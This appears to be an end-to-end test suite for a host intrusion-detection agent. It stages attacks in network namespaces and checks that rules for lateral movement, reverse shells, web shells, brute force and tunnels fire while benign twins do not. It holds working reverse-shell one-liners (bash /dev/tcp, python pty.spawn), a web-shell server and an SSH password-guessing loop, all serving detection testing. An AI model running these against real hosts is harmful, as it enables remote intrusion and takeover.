"""Every detection rule on its real attack, between hosts A, B, C and D in network namespaces
with real sshd on B and C, watched by one agent scoped to B; and a benign twin of each that
must stay quiet. The run is recorded; replaying the recording must give the same alerts, byte
for byte.

The attacks run once (the first test runs them, the others read the result); each test then
judges one rule."""
import os
import shlex
import subprocess
import sys
import textwrap
import time

import ecs_schema
import hw
from hw import Agent, check, check_eq, get
from lab3 import ADDR, Lab3, marker
from sshlab import HOP_SSH_OPTS, SshServer, TestUser, give_key, kill_tree, ssh, ssh_popen

A, B, C, D = ADDR["a"], ADDR["b"], ADDR["c"], ADDR["d"]
SETTINGS = [
    "detect.internal_nets=198.18.0.0/15",
    "detect.long_session=5s",
    "detect.long_connection=4s",
    "detect.fanout_hosts=3",
    "detect.bruteforce_failures=3",
    "detect.allow_sources=%s/32" % D,  # D is the jump host
    "detect.allow_programs=/usr/bin/curl",
]

# A listener on C that takes one connection, sends `send`, reads until EOF or 10 s.
CATCHER = textwrap.dedent("""
    import socket, sys, time
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(8); print("ready", flush=True)
    while True:
        c, _ = s.accept(); c.settimeout(10)
        c.sendall(sys.argv[3].encode().decode("unicode_escape").encode())
        try:
            while c.recv(4096): pass
        except OSError: pass
        c.close()
""")
# A "web application" on B whose request handler runs a shell (a web shell).
WEBSHELL = textwrap.dedent("""
    import socket, subprocess, sys
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(8); print("ready", flush=True)
    while True:
        c, _ = s.accept(); c.recv(1000)
        out = subprocess.run(["sh", "-c", "id; uname -a"], capture_output=True).stdout
        c.sendall(b"HTTP/1.0 200 OK\\r\\n\\r\\n" + out); c.close()
""")
# A relay on B: accepts on a port and connects on to C:22 (socat TCP-LISTEN,fork TCP:C:22).
RELAY = textwrap.dedent("""
    import socket, sys, threading
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(8); print("ready", flush=True)
    while True:
        c, _ = s.accept()
        u = socket.create_connection((sys.argv[3], 22), timeout=5)
        u.sendall(c.recv(100)); c.sendall(u.recv(100)); u.close(); c.close()
""")
# A reverse shell through a pty held by its parent (python pty.spawn).
PTY_SHELL = ("import os, pty, socket; s = socket.create_connection(('%s', 4445)); "
             "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]; pty.spawn('/bin/sh')" % C)

_RESULT = None


class Daemons:
    """Processes started for the scenario, ended by PID (with their children) on exit."""

    def __init__(self):
        self.procs = []

    def start(self, ns, argv, wait_ready=True):
        p = ns.popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                     stdin=subprocess.DEVNULL, text=True, start_new_session=True)
        self.procs.append(p)
        if wait_ready:
            line = p.stdout.readline()
            check(line.strip() == "ready", "daemon %r did not start: %r %s"
                  % (argv[:3], line, p.stderr.read() if p.poll() is not None else ""))
        return p

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        for p in reversed(self.procs):
            kill_tree(p.pid, p)
            for f in (p.stdout, p.stderr):
                if f:
                    f.close()


def _scenario():
    rec_dir = hw.tempdir("e2e")
    rec = os.path.join(rec_dir, "b.rec")
    www = os.path.join(rec_dir, "www")
    os.makedirs(www)
    with open(os.path.join(www, "big.bin"), "wb") as f:
        f.write(os.urandom(200 * 1024))
    with Lab3() as lab, SshServer(lab.b, B) as sb, SshServer(lab.c, C) as sc, \
            TestUser("e") as u, TestUser("p", password="Corr3ct-%s" % hw.RUN_ID) as pu, \
            Daemons() as dm:
        u.authorize(sb)
        u.authorize(sc)
        give_key(u)
        py = sys.executable
        dm.start(lab.c, [py, "-c", CATCHER, C, "4444", "id\\nexit\\n"])
        dm.start(lab.c, [py, "-c", CATCHER, C, "4445", "id\\nexit\\n"])
        dm.start(lab.c, [py, "-c", CATCHER, C, "8443", ""])
        dm.start(lab.c, [py, "-m", "http.server", "--bind", C, "--directory", www, "8080"],
                 wait_ready=False)
        dm.start(lab.b, [py, "-c", WEBSHELL, B, "8080"])
        dm.start(lab.b, [py, "-c", RELAY, B, "8022", C])
        dm.start(lab.b, [py, "-m", "http.server", "--bind", B, "--directory", www, "8081"],
                 wait_ready=False)
        time.sleep(1.0)  # the two http.servers print nothing when ready
        agent = Agent("--netns", lab.b.path, "--host-name", "b", "--record", rec,
                      *sum((["--set", s] for s in SETTINGS), []))
        with agent:
            # benign: a short command over ssh
            r = ssh(lab.a, u, B, "uptime; echo %s" % marker("short"))
            check_eq(r.returncode, 0, "short ssh: " + r.stderr)
            # lateral-movement: from the session on B, ssh on to C
            r = ssh(lab.a, u, B, "echo %s; ssh %s %s true" % (marker("hop"), HOP_SSH_OPTS, C))
            check_eq(r.returncode, 0, "hop A->B->C: " + r.stderr)
            # benign: the same hop from the jump host D (detect.allow_sources)
            r = ssh(lab.d, u, B, "echo %s; ssh %s %s true" % (marker("jump"), HOP_SSH_OPTS, C))
            check_eq(r.returncode, 0, "hop D->B->C: " + r.stderr)
            # lateral-movement through sshd itself: ProxyJump (ssh -W on B), nothing exec'd on B
            jump = "ssh %s -o IdentitiesOnly=yes -i %s -l %s -W %%h:%%p %s" % (
                HOP_SSH_OPTS.replace("-i ~/.ssh/id_ed25519", ""), u.key_path, u.name, B)
            r = ssh(lab.a, u, C, "true", extra_opts=["-o", "ProxyCommand=" + jump])
            check_eq(r.returncode, 0, "ProxyJump A->B->C: " + r.stderr)
            # admin-fanout: one session knocks on RDP of three hosts (refused)
            knock = "; ".join("timeout 2 bash -c 'echo > /dev/tcp/%s/3389' 2>/dev/null" % h
                              for h in (A, C, D))
            r = ssh(lab.a, u, B, "echo %s; %s; true" % (marker("fanout"), knock))
            check_eq(r.returncode, 0, "fanout: " + r.stderr)
            # tunnel: a remote forward (sshd listens on B for the client)
            r = ssh(lab.a, u, B, "sleep 1.5; echo %s" % marker("fwd"),
                    extra_opts=["-R", "127.0.0.1:9000:127.0.0.1:22"])
            check_eq(r.returncode, 0, "ssh -R: " + r.stderr)
            # tunnel: a relay on B, accept from A then connect to C:22
            r = lab.a.run([py, "-c", "import socket; s = socket.create_connection(('%s', 8022), "
                           "timeout=5); s.sendall(b'SSH-2.0-x\\r\\n'); print(s.recv(100))" % B],
                          capture_output=True, text=True, timeout=20)
            check_eq(r.returncode, 0, "relay: " + r.stderr)
            # service-shell: a request to the web application that runs a shell
            r = lab.a.run(["curl", "-sS", "-m", "5", "http://%s:8080/" % B],
                          capture_output=True, text=True, timeout=20)
            check("uid=" in r.stdout, "web shell did not answer: %r %r" % (r.stdout, r.stderr))
            # benign: a web server serving files
            r = lab.a.run(["curl", "-sS", "-m", "5", "-o", "/dev/null", "http://%s:8081/big.bin"
                           % B], capture_output=True, text=True, timeout=20)
            check_eq(r.returncode, 0, "file download: " + r.stderr)
            # reverse-shell: bash /dev/tcp, and a shell on a pty held by python
            r = lab.b.run(["bash", "-c", "bash -i >& /dev/tcp/%s/4444 0>&1" % C],
                          capture_output=True, text=True, timeout=20)
            r = lab.b.run([py, "-c", PTY_SHELL], capture_output=True, text=True, timeout=20)
            # brute-force from D: three wrong passwords, then the right one
            for i in range(3):
                r = ssh(lab.d, pu, B, "true", password="wrong-%d" % i)
                check(r.returncode != 0, "a wrong password was accepted")
            r = ssh(lab.d, pu, B, "echo %s" % marker("bruted"), password=pu.password)
            check_eq(r.returncode, 0, "right password: " + r.stderr)
            # benign: two wrong passwords from C (below the threshold)
            for i in range(2):
                ssh(lab.c, pu, B, "true", password="typo-%d" % i)
            # long-session (5s) while it is open, and long-connection (4s) beside it:
            # bash holding a connection to C:8443, and curl (allowlisted) downloading slowly
            long_sess = ssh_popen(lab.a, u, B, "echo %s; sleep 8" % marker("long"))
            holder = lab.b.popen(["bash", "-c", "exec 3<>/dev/tcp/%s/8443; sleep 7" % C])
            slow = lab.b.popen(["curl", "-sS", "-o", "/dev/null", "--limit-rate", "25k",
                                "http://%s:8080/big.bin" % C])
            try:
                agent.wait_for(lambda e: get(e, "rule.id") == "long-session", timeout=15)
                long_sess.wait(15)
                holder.wait(15)
                slow.wait(20)
            finally:
                kill_tree(holder.pid, holder)
                kill_tree(slow.pid, slow)
                long_sess.end()
            time.sleep(1.5)  # the last closes and logouts reach the agent
        check_eq(agent.rc, 0, "agent exit: " + agent.read_stderr())
        events = agent.events()
    replay = hw.hopwatch("replay", *sum((["--set", s] for s in SETTINGS), []), rec)
    return {"events": events, "rec": rec, "replay": replay, "user": u.name,
            "puser": pu.name, "lines": agent.lines(), "fact_checked": agent.fact_checked}


def result():
    global _RESULT
    if _RESULT is None:
        try:
            _RESULT = _scenario()
        except BaseException as e:  # noqa: BLE001 - every test reports the same failure
            _RESULT = e
    if isinstance(_RESULT, BaseException):
        raise hw.TestFailure("the attack scenario failed: %s" % _RESULT)
    return _RESULT


def alerts(rule=None):
    return [e for e in result()["events"] if get(e, "event.kind") == "alert"
            and (rule is None or get(e, "rule.id") == rule)]


def session_of(tag):
    """The session id of the ssh login that ran the command marked tag."""
    m = marker(tag)
    for e in result()["events"]:
        if get(e, "event.action") == "exec" and any(m in a for a in get(e, "process.args", [])) \
                and get(e, "hopwatch.session.id"):
            return get(e, "hopwatch.session.id")
    raise hw.TestFailure("no session ran the command marked %s" % tag)


def by_session(rule, sid):
    return [a for a in alerts(rule) if get(a, "hopwatch.session.id") == sid]


def check_alert_shape(a):
    for k in ("rule.id", "rule.name", "event.severity", "message", "threat.framework",
              "threat.technique.id", "event.id", "host.name"):
        check(get(a, k) not in (None, "", []), "alert without %s: %r" % (k, a))
    check_eq(get(a, "threat.framework"), "MITRE ATT&CK", "threat.framework")
    check_eq(get(a, "host.name"), "b", "host.name")


def test_lateral_movement():
    hop = session_of("hop")
    found = by_session("lateral-movement", hop)
    check_eq(len(found), 1, "lateral-movement alerts of the A->B->C hop")
    a = found[0]
    check_alert_shape(a)
    check_eq((get(a, "destination.ip"), get(a, "destination.port")), (C, 22), "destination")
    check_eq(get(a, "source.ip"), A, "the session's source")
    check_eq(get(a, "user.name"), result()["user"], "user")
    check_eq(get(a, "hopwatch.alert.process_chain")[-1], "ssh", "the hopping process")
    check("T1021.004" in get(a, "threat.technique.id"), "T1021.004")
    # benign twins: a short command, and the same hop from the allowlisted jump host D
    check_eq(by_session("lateral-movement", session_of("short")), [], "short session alerts")
    check_eq(by_session("lateral-movement", session_of("jump")), [], "jump host alerts")
    check_eq([x for x in alerts() if get(x, "source.ip") == D
              and get(x, "rule.id") == "lateral-movement"], [], "alerts for sessions from D")


def test_lateral_movement_through_sshd():
    via = [a for a in alerts("lateral-movement") if "T1572" in get(a, "threat.technique.id")]
    check_eq(len(via), 1, "ProxyJump alerts: %r" % [get(a, "message") for a in via])
    a = via[0]
    check_eq((get(a, "destination.ip"), get(a, "destination.port")), (C, 22), "destination")
    check(os.path.basename(get(a, "process.executable")) in ("sshd", "sshd-session"),
          "the connecting process is sshd: %r" % get(a, "process.executable"))
    check("ProxyJump" in get(a, "message"), "message: " + get(a, "message"))


def test_admin_fanout():
    fan = session_of("fanout")
    found = alerts("admin-fanout")
    check_eq(len(found), 1, "admin-fanout alerts")
    a = found[0]
    check_alert_shape(a)
    check_eq(get(a, "hopwatch.session.id"), fan, "the fan-out session")
    check_eq(get(a, "hopwatch.alert.count"), 3, "hosts counted")
    check_eq(sorted(get(a, "hopwatch.alert.hosts")), sorted([A, C, D]), "hosts")
    check("3 connects failed" in get(a, "message"), "failures counted: " + get(a, "message"))


def test_long_session():
    long_sid = session_of("long")
    found = alerts("long-session")
    check_eq([get(a, "hopwatch.session.id") for a in found], [long_sid],
             "long-session alerts (only the 8 s session)")
    a = found[0]
    check_alert_shape(a)
    check(get(a, "hopwatch.alert.age") >= 5 * 10**9, "age %r" % get(a, "hopwatch.alert.age"))
    check("idle" in get(a, "message"), "idle time in the message")
    logout = [e for e in result()["events"] if get(e, "event.action") == "user_logout"
              and get(e, "hopwatch.session.id") == long_sid]
    check_eq(len(logout), 1, "the long session's logout")
    check(a["@timestamp"] < logout[0]["@timestamp"], "fired while open: %s vs logout %s"
          % (a["@timestamp"], logout[0]["@timestamp"]))


def test_long_connection():
    found = alerts("long-connection")
    check_eq([(get(a, "process.executable"), get(a, "destination.port")) for a in found],
             [("/usr/bin/bash", 8443)], "long-connection alerts (bash, not curl)")
    a = found[0]
    check_alert_shape(a)
    check_eq(get(a, "destination.ip"), C, "destination")
    check(get(a, "hopwatch.connection.id"), "connection id")
    check(get(a, "hopwatch.alert.age") >= 4 * 10**9, "age")


def test_reverse_shell():
    found = alerts("reverse-shell")
    check_eq(len(found), 2, "reverse-shell alerts: %r" % [get(a, "message") for a in found])
    tcp = [a for a in found if "TCP socket" in get(a, "message")]
    pty = [a for a in found if "pty" in get(a, "message")]
    check_eq(len(tcp), 1, "bash /dev/tcp")
    check_eq(get(tcp[0], "process.executable"), "/usr/bin/bash", "the shell")
    check_eq(len(pty), 1, "python pty.spawn")
    check("python" in get(pty[0], "message"), "names the holder: " + get(pty[0], "message"))
    check_eq(get(pty[0], "event.severity"), 99, "severity")
    # benign: every ssh login's sshd re-exec ran with its socket on stdin
    check_eq([a for a in found if "sshd" in (get(a, "process.executable") or "")], [],
             "sshd's pre-login re-exec")


def test_service_shell():
    found = alerts("service-shell")
    check_eq(len(found), 1, "service-shell alerts: %r" % [get(a, "message") for a in found])
    a = found[0]
    check_alert_shape(a)
    check("python" in get(a, "message") and "listening" in get(a, "message"), get(a, "message"))
    check(get(a, "hopwatch.alert.process_chain")[-1] in ("sh", "dash", "bash"),
          "the shell: %r" % get(a, "hopwatch.alert.process_chain"))
    check(get(a, "hopwatch.alert.related_ids"), "the service process's entity id")
    check("T1505.003" in get(a, "threat.technique.id"), "T1505.003")


def test_brute_force():
    found = alerts("brute-force")
    check_eq([(get(a, "source.ip"), get(a, "event.severity")) for a in found],
             [(D, 47), (D, 99)], "brute-force alerts (D, then D's success; none for C)")
    check_eq(get(found[0], "hopwatch.alert.count"), 3, "failures")
    check_eq(get(found[1], "user.name"), result()["puser"], "who got in")
    check_eq(get(found[1], "hopwatch.session.id"), session_of("bruted"), "the session")
    check("T1078" in get(found[1], "threat.technique.id"), "T1078 on success")


def test_tunnel():
    found = alerts("tunnel")
    msgs = [get(a, "message") for a in found]
    check(any("ssh -R" in m for m in msgs), "remote forward: %r" % msgs)
    relay = [a for a in found if get(a, "rule.name") == "Connection relay"]
    check_eq(len(relay), 1, "relay alerts: %r" % msgs)
    check_eq((get(relay[0], "destination.ip"), get(relay[0], "destination.port")), (C, 22),
             "relay destination")
    check(A in get(relay[0], "message"), "names the accepted peer")
    fwd = [a for a in found if "ssh -R" in get(a, "message")]
    check_eq(get(fwd[0], "hopwatch.session.id"), session_of("fwd"), "the forwarding session")
    # the web server serving files and the web shell are not relays
    check_eq([m for m in msgs if "8081" in m or "8080" in m], [], "web servers as tunnels")


def test_no_alerts_from_benign_sessions():
    for tag in ("short", "jump"):
        sid = session_of(tag)
        check_eq([get(a, "rule.id") for a in alerts() if get(a, "hopwatch.session.id") == sid],
                 [], "alerts for the %s session" % tag)


def test_replay_gives_the_same_alerts():
    res = result()
    r = res["replay"]
    check_eq(r.returncode, 0, "replay exit: " + r.stderr)
    live = [l for l in res["lines"] if '"kind":"alert"' in l]
    check(len(live) >= 10, "alerts in the live run: %d" % len(live))
    check_eq(r.stdout.splitlines(), live, "replayed alerts")
    check("0 malformed" in r.stderr, r.stderr)


def test_live_facts_equal_their_lines():
    """The live engine is fed facts built straight from the agent's views, replay facts read
    from the lines: the agent ran with the fact check (hw.Agent: HW_FACT_CHECK=1), compared
    the two for every event and tick, and found no difference (Agent.stop fails otherwise)."""
    res = result()
    with open(res["rec"], encoding="utf-8") as f:
        recorded = sum(1 for _ in f)
    events = [l for l in res["lines"] if '"kind":"alert"' not in l]
    check(res["fact_checked"] is not None, "the agent did not report its fact check")
    # every event line and every recorded tick (the recording holds both, no alerts)
    check_eq(res["fact_checked"], recorded, "facts checked = lines recorded")
    check(res["fact_checked"] >= len(events), "checked %d, events %d"
          % (res["fact_checked"], len(events)))


def test_every_line_conforms_to_ecs():
    """Every line of the run, and of its recording (ticks), against Elastic's ECS schema."""
    res = result()
    with open(res["rec"], encoding="utf-8") as f:
        recorded = f.read().splitlines()
    errs = ecs_schema.validate_lines(res["lines"], "output line") + \
        ecs_schema.validate_lines(recorded, "recorded line")
    check_eq(errs[:20], [], "ECS violations (%d in all)" % len(errs))
    check(len(alerts()) >= 10, "alerts checked: %d" % len(alerts()))
